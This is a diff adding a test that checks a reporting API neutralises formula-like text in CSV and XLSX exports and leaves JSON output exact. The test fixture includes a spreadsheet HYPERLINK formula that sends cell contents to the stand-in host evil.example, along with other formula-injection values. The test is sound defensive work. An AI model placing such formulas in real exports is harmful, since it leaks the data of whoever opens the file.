@@ -2,9 +2,13 @@
  * Hardening of the HTTP edge (issue 12): personal data is never cacheable, and malformed requests are the
  * client's fault (4xx), never a 500 or a default report. Runs on SQLite and, when it answers, PostgreSQL.
  */
+import { FormulaLike } from "@vcr/core"
+import { writeFileSync } from "node:fs"
 import { request as httpRequest } from "node:http"
+import { join } from "node:path"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
 import { freshPostgres, postgresAvailable } from "../../../test-support/postgres.ts"
+import { worksheetXml, zipEntries } from "../../../packages/xlsx/test/fixtures.ts"
 import { day, start, type Running } from "./support.ts"
 
 /** A raw request (fetch would normalise or refuse what an attacker sends). */
@@ -18,6 +22,35 @@ const raw = (url: string, o: { method?: string; path: string; headers?: Record<s
     req.on("error", reject)
     req.end(o.body)
   })
+
+/** The cells of an RFC 4180 CSV text. */
+const csvCells = (text: string): Array<Array<string>> => {
+  const rows: Array<Array<string>> = [[]]
+  let cell = ""
+  let quoted = false
+  const endCell = () => {
+    rows.at(-1)!.push(cell)
+    cell = ""
+  }
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"'
+        i++
+      } else if (c === '"') quoted = false
+      else cell += c
+    } else if (c === '"') quoted = true
+    else if (c === ",") endCell()
+    else if (c === "\n" || c === "\r") {
+      if (c === "\r" && text[i + 1] === "\n") i++
+      endCell()
+      rows.push([])
+    } else cell += c
+  }
+  if (cell !== "" || rows.at(-1)!.length > 0) rows.at(-1)!.push(cell)
+  return rows.filter((r) => r.length > 0 && !(r.length === 1 && r[0] === ""))
+}
 
 const download = "/api/v1/organisations/org-1/reports/consultations/downloads"
 
@@ -60,6 +93,57 @@ const suite = (name: string, database: () => Promise<{ url: string; drop: () => 
         }
         const signIn = await fetch(a.url + "/auth/link", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"token":"x"}' })
         expect(signIn.headers.get("cache-control")).toBe("no-store")
+      })
+    })
+
+    describe("formula-like text (R74) through the API", () => {
+      const label = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
+      const clinic = "\uFF1D1+11"
+      const prepare = async (a: Running) => {
+        const put = await a.as("u-oadmin", "/api/v1/organisations/org-1/reporting-configuration", {
+          method: "PUT", body: JSON.stringify({ tags: [{ key: "campaign", label }], bandwidth_columns: true, default_timezone: null, default_minimum_duration_minutes: null })
+        })
+        expect(put.status).toBe(200)
+        await a.store.importLines([
+          JSON.stringify({ type: "clinic", id: "cl-evil", organisation_id: "org-1", name: clinic, status: "open", created_at: "2024-01-11T00:00:00Z", tags: { campaign: "@SUM(A1)" } })
+        ])
+      }
+      const fetchReport = async (a: Running, format: string) => {
+        const r = await a.as("u-oadmin", "/api/v1/organisations/org-1/reports/clinics/downloads", { method: "POST", body: JSON.stringify({ ...day, format }) })
+        expect(r.status, format).toBe(200)
+        return Buffer.from(await r.arrayBuffer())
+      }
+
+      it("guards the tag label header and the clinic name in CSV, keeps them exact with quotePrefix in XLSX, and exact in JSON", async ({ skip }) => {
+        if (skipped) return skip()
+        const a = running()
+        await prepare(a)
+
+        // CSV: every cell a spreadsheet would evaluate carries the guard; the guarded texts are the originals.
+        const cells = csvCells(( await fetchReport(a, "csv")).toString("utf8"))
+        expect(cells.flat().filter((c) => FormulaLike.isFormulaLike(c))).toEqual([])
+        expect(cells[0]).toContain(`'${label}`)
+        expect(cells.flat()).toContain(`'${clinic}`)
+        expect(cells.flat()).toContain("'@SUM(A1)")
+
+        // XLSX: no formula anywhere; the texts are exact and their style has quotePrefix.
+        const path = join(a.dir, "evil.xlsx")
+        writeFileSync(path, await fetchReport(a, "xlsx"))
+        const entries = await zipEntries(path)
+        const styles = entries.get("xl/styles.xml")!
+        const quoted = [...styles.slice(styles.indexOf("<cellXfs"), styles.indexOf("</cellXfs>")).matchAll(/<xf [^>]*>/g)].map((m) => m[0].includes('quotePrefix="1"'))
+        const texts = worksheetXml(entries).flatMap((xml) => {
+          expect(xml).not.toMatch(/<f[\s>/]/)
+          return [...xml.matchAll(/<c r="[A-Z]+\d+"(?: s="(\d+)")? t="(?:str"><v>|inlineStr"><is><t xml:space="preserve">)([^<]*)</g)].map((m) => ({
+            text: m[2]!.replaceAll("&quot;", '"').replaceAll("&amp;", "&"), quotePrefix: quoted[Number(m[1] ?? 0)] ?? false
+          }))
+        })
+        for (const text of [label, clinic, "@SUM(A1)"]) expect(texts, text).toContainEqual({ text, quotePrefix: true })
+
+        // JSON is data for machines (SPEC §8; R74 covers outputs a spreadsheet opens): exact, unguarded.
+        const json = JSON.parse((await fetchReport(a, "json")).toString("utf8")) as { columns: Array<{ header: string }>; rows: Array<Record<string, unknown>> }
+        expect(json.columns.map((c) => c.header)).toContain(label)
+        expect(json.rows.map((r) => r.clinic_name)).toContain(clinic)
       })
     })
 
